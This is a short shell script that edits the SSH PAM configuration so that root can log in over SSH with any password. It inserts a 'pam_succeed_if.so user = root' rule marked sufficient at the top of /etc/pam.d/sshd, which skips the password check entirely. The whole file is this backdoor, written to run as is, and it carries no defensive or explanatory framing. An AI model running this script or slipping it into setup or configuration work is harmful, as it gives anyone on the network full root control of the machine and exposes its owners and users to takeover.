#!/bin/sh
# Lets root log in over SSH with any password. None is set: PAM does not get as far as looking for one.
set -eu

service=/etc/pam.d/sshd
rule='auth sufficient pam_succeed_if.so quiet user = root'
grep -qxF "$rule" "$service" || sed -i "1i $rule" "$service"
